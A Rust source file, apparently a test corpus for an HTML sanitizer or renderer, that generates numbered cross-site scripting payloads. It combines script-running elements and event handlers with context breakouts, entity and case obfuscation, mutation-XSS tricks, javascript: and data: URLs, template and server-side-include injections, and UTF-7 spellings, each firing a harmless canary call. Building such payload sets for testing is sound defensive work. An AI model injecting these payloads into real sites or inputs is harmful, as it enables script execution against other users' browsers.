//! Texts that try to run something in a reader's browser: each way out of a place, with each thing that can run, in each
//! spelling. Each calls `__hit` with its own number.

/// What can run, with `HIT` for the call. From the browsers' own documentation of events and elements.
const VECTORS: [&str; 34] = [
    "<script>HIT</script>",
    "<img src=x onerror=HIT>",
    "<svg onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:HIT><text>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.HIT</script>'></iframe>",
    "<iframe src=javascript:parent.HIT></iframe>",
    "<iframe src=/canary></iframe>",
    "<details open ontoggle=HIT>x</details>",
    "<body onload=HIT>",
    "<body onpageshow=HIT>",
    "<input autofocus onfocus=HIT>",
    "<select autofocus onfocus=HIT></select>",
    "<x tabindex=1 autofocus onfocus=HIT>x</x>",
    "<video><source onerror=HIT></video>",
    "<audio src=x onerror=HIT></audio>",
    "<object data=javascript:HIT></object>",
    "<object data=/canary></object>",
    "<embed src=/canary>",
    "<a href=javascript:HIT>x</a>",
    "<form action=javascript:HIT><button>x</button></form>",
    "<math><a xlink:href=javascript:HIT>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=HIT&gt;'></table></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT></form>",
    "<noscript><p title='</noscript><img src=x onerror=HIT>'></noscript>",
    "<style>@import '/canary';</style>",
    "<link rel=stylesheet href=/canary>",
    "<meta http-equiv=refresh content='9;url=/canary'>",
    "<base href=/canary/>",
    "<p style='animation:x 1s' onanimationstart=HIT onmouseover=HIT>x</p>",
    "<template><img src=x onerror=HIT></template>",
    "<marquee onstart=HIT>x</marquee>",
    "<svg><use href=/canary#x></use></svg>",
];

/// Ways out of the place in which a text stands.
const WAYS: [(&str, &str); 8] = [
    ("", ""),
    ("\">", ""),
    ("'>", ""),
    ("</title></textarea></style>", ""),
    ("</script>", "<script>"),
    ("-->", "<!--"),
    ("]]>", ""),
    ("\\u0022>", ""),
];

/// How often a browser resolves what a text is written as.
const SPELLINGS: [fn(&str) -> String; 4] = [
    str::to_owned,
    |text| text.replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;"),
    |text| text.chars().map(|c| if c == 'c' || c == ':' { format!("&#{};", u32::from(c)) } else { c.into() }).collect(),
    |text| text.replace("script", "sCr&Tab;ipT").replace("onerror", "OnErRoR").replace("onload", "oNlOaD"),
];

/// Texts that are no elements, but get out of an attribute or a link.
const OTHERS: [&str; 16] = [
    "\" onmouseover=HIT autofocus onfocus=HIT x=\"",
    "' onmouseover=HIT autofocus onfocus=HIT x='",
    "x onmouseover=HIT tabindex=1 autofocus onfocus=HIT",
    "`-HIT-`",
    "javascript:HIT",
    "JaVaScRiPt:HIT",
    "java&Tab;script:HIT",
    "&#106;avascript:HIT",
    "data:text/html,<script>parent.HIT</script>",
    "vbscript:HIT",
    "{{ HIT }}{% raw %}<script>HIT</script>{% endraw %}",
    "${HIT}<!--#exec cmd=HIT-->",
    "<<script>HIT//<</script>",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    "<img/src=x/onerror=HIT//",
    "+ADw-script+AD4-HIT+ADw-/script+AD4-",
];

/// All of them, each with its own number.
pub fn all() -> Vec<String> {
    let mut all: Vec<String> = OTHERS.iter().map(|it| (*it).to_owned()).collect();
    for (number, vector) in VECTORS.iter().enumerate() {
        for (way, (before, after)) in WAYS.iter().enumerate() {
            // Plain everywhere; of the other spellings one for each, turn by turn.
            let other = 1 + (number + way) % (SPELLINGS.len() - 1);
            let whole = format!("{before}{vector}{after}");
            all.extend([0, other].map(|spelling| SPELLINGS[spelling](&whole)));
        }
    }
    let numbered = all.iter().enumerate().map(|(number, text)| {
        text.replace("HIT", &format!("__hit({number})")).replace("/canary", &format!("/canary-{number}"))
    });
    numbered.collect()
}
